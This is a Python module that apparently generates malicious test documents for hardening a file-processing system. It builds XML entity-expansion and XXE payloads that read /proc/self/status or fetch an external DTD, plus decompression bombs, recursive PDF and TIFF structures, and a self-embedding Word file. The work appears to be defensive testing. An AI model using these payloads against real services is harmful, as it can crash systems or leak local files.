"""Documents made to hurt whoever opens them; each function writes one and returns its path. Small on disk."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import openpyxl
import pptx
from PIL import Image

FILES = Path(__file__).parent / "files"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
BLOW_UP = f'<!DOCTYPE x [<!ENTITY j "{"h" * 100_000}">]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///proc/self/status">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///proc/self/status"> %p;]>'
TYPED = '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'


def office(path: Path) -> Path:
    """A small sound document of the kind that the ending says, about the rent."""
    kind = path.suffix
    if kind == ".docx":
        document = docx.Document()
        document.add_paragraph("the rent is due")
        document.save(str(path))
    elif kind == ".pptx":
        deck = pptx.Presentation()
        deck.slides.add_slide(deck.slide_layouts[5]).shapes.title.text = "the rent is due"
        deck.save(str(path))
    elif kind == ".xlsx":
        book = openpyxl.Workbook()
        book.active.append(["the rent is due"])
        book.save(path)
    else:
        return with_prolog(FILES / {".odt": "lease.odt", ".ods": "budget.ods", ".odp": "slides.odp"}[kind], path, "")
    return path


_PAGE = "/Type /Page /Parent 2 0 R /MediaBox [0 0 600 800]"
MAIN_PART = {
    ".docx": "word/document.xml",
    ".pptx": "ppt/slides/slide1.xml",
    ".xlsx": "xl/worksheets/sheet1.xml",
    ".odt": "content.xml",
    ".ods": "content.xml",
    ".odp": "content.xml",
}


def with_prolog(source: Path, target: Path, prolog: str, *, uses: str = "", part: str | None = None) -> Path:
    """A copy of a zip-based document whose main part begins with `prolog`; `uses` stands for "rent" in it."""
    chosen = part or MAIN_PART[target.suffix]
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item)
            if item.filename == chosen:
                head, end, rest = data.partition(b"?>") if data.startswith(b"<?xml") else (b"", b"", data)
                data = head + end + prolog.encode() + rest.replace(b"rent", uses.encode() or b"rent")
            new.writestr(item, data)
    target.write_bytes(out.getvalue())
    return target


def nested_pdf(path: Path, depth: int) -> Path:
    """Form XObjects inside one another, the last of which draws the first again, on a page."""
    head = "/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Length 5"
    forms = [
        f"<< {head} /Resources << /XObject << /F {5 + (i + 1) % depth} 0 R >> >> >>\nstream\n/F Do\nendstream"
        for i in range(depth)
    ]
    page = f"<< {_PAGE} /Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >> >>"
    return pdf(path, [page, "<< /Length 5 >>\nstream\n/F Do\nendstream", *forms], kids=[3])


def deep_arrays_pdf(path: Path, depth: int) -> Path:
    """A page with an entry that is arrays within arrays."""
    page = f"<< {_PAGE} /X {'[' * depth}{']' * depth} >>"
    return pdf(path, [page], kids=[3])


def endless_tree_pdf(path: Path) -> Path:
    """A page tree whose nodes are their own grandchildren, and which claims two billion pages."""
    node = "<< /Type /Pages /Parent 2 0 R /Count 2000000000 /Kids [2 0 R 3 0 R] >>"
    return pdf(path, [node], kids=[3], count=2_000_000_000)


def many_pages_pdf(path: Path, count: int) -> Path:
    """One empty page, listed again and again."""
    return pdf(path, [f"<< {_PAGE} >>"], kids=[3] * count)


def giant_page_pdf(path: Path, side: int, *, content: str) -> Path:
    """A page of `side` by `side` points, with Helvetica at hand."""
    page = (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {side} {side}] /Contents 4 0 R /Resources "
        f"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"
    )
    return pdf(path, [page, f"<< /Length {len(content)} >>\nstream\n{content}\nendstream"], kids=[3])


def broken_font_pdf(path: Path, program: bytes) -> Path:
    """A page whose one font carries `program` as its TrueType file."""
    font = (
        "<< /Type /Font /Subtype /TrueType /BaseFont /Broken /FirstChar 32 /LastChar 126 /Widths ["
        + "500 " * 95
        + "] /FontDescriptor << /Type /FontDescriptor /FontName /Broken /Flags 32 /FontBBox [0 0 1000 1000] "
        "/ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 5 0 R >> >>"
    )
    content = "BT /F1 12 Tf 72 700 Td (the rent is due in advance) Tj ET"
    page = f"<< {_PAGE} /Contents 4 0 R /Resources << /Font << /F1 {font} >> >> >>"
    stream = (
        f"<< /Length {len(program)} /Length1 {len(program)} >>\nstream\n" + program.decode("latin-1") + "\nendstream"
    )
    return pdf(path, [page, f"<< /Length {len(content)} >>\nstream\n{content}\nendstream", stream], kids=[3])


def bomb_pdf(path: Path, size: int) -> Path:
    """A page whose content unpacks to `size` bytes."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b"0 0 m 1 1 l S\n" * 75_000) for _ in range(size >> 20)) + packer.flush()
    page = f"<< {_PAGE} /Contents 4 0 R >>"
    stream = f"<< /Length {len(data)} /Filter /FlateDecode >>\nstream\n" + data.decode("latin-1") + "\nendstream"
    return pdf(path, [page, stream], kids=[3])


def pdf(path: Path, objects: list[str], *, kids: list[int], count: int | None = None) -> Path:
    """A PDF of a catalogue, a page tree and then `objects`, the first of which is number 3."""
    root = "<< /Type /Catalog /Pages 2 0 R >>"
    listed = " ".join(f"{kid} 0 R" for kid in kids)
    tree = f"<< /Type /Pages /Count {len(kids) if count is None else count} /Kids [{listed}] >>"
    out = bytearray(b"%PDF-1.4\n")
    places = []
    for number, body in enumerate([root, tree, *objects], start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}"
    trailer = f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R >>\nstartxref\n{len(out)}\n%%EOF\n"
    path.write_bytes(bytes(out) + end.encode() + trailer.encode())
    return path


def png_header(path: Path, side: int) -> Path:
    """A PNG that says it has `side` by `side` pixels and holds a line of them."""
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(bytes(1 + 3 * 1000))), (b"IEND", b"")]
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + body)
    return path


def png_bomb(path: Path, side: int) -> Path:
    """A true picture of one colour."""
    Image.new("1", (side, side)).save(path, optimize=False)
    return path


def png_text_bomb(path: Path, size: int) -> Path:
    """A small picture whose compressed remark unpacks to `size` bytes."""
    small = io.BytesIO()
    Image.new("L", (50, 50), 255).save(small, "PNG")
    raw = small.getvalue()
    data = b"Comment\0\0" + zlib.compress(bytes(size), 9)
    chunk = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    path.write_bytes(raw[:33] + chunk + raw[33:])
    return path


def tiff_bomb(path: Path, side: int, frames: int) -> Path:
    """A TIFF of many large frames of one colour, packed."""
    pages = [Image.new("1", (side, side)) for _ in range(frames)]
    pages[0].save(path, save_all=True, append_images=pages[1:], compression="tiff_deflate")
    return path


def endless_tiff(path: Path) -> Path:
    """A TIFF whose first directory names itself as the next."""
    Image.new("L", (60, 40), 255).save(path, compression=None)
    raw = bytearray(path.read_bytes())
    (first,) = struct.unpack_from("<I", raw, 4)
    (entries,) = struct.unpack_from("<H", raw, first)
    struct.pack_into("<I", raw, first + 2 + 12 * entries, first)
    path.write_bytes(raw)
    return path


def self_embedding_docx(path: Path) -> Path:
    """A Word file that names itself as an alternative content and as an embedded object."""
    office(path)
    copy = path.read_bytes()
    out = io.BytesIO()
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="rIdX{number}" Type="{kinds}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate([("aFChunk", "inner.docx"), ("package", "inner.docx")])
    )
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", links.encode() + b"</Relationships>")
            elif item.filename == "[Content_Types].xml":
                kind = b'<Default Extension="docx" ContentType="application/octet-stream"/>'
                data = data.replace(b"<Default ", kind + b"<Default ", 1)
            elif item.filename == "word/document.xml":
                data = data.replace(b"<w:sectPr", b'<w:altChunk r:id="rIdX0"/><w:sectPr', 1)
            new.writestr(item, data)
        new.writestr("word/inner.docx", copy)
    path.write_bytes(out.getvalue())
    return path
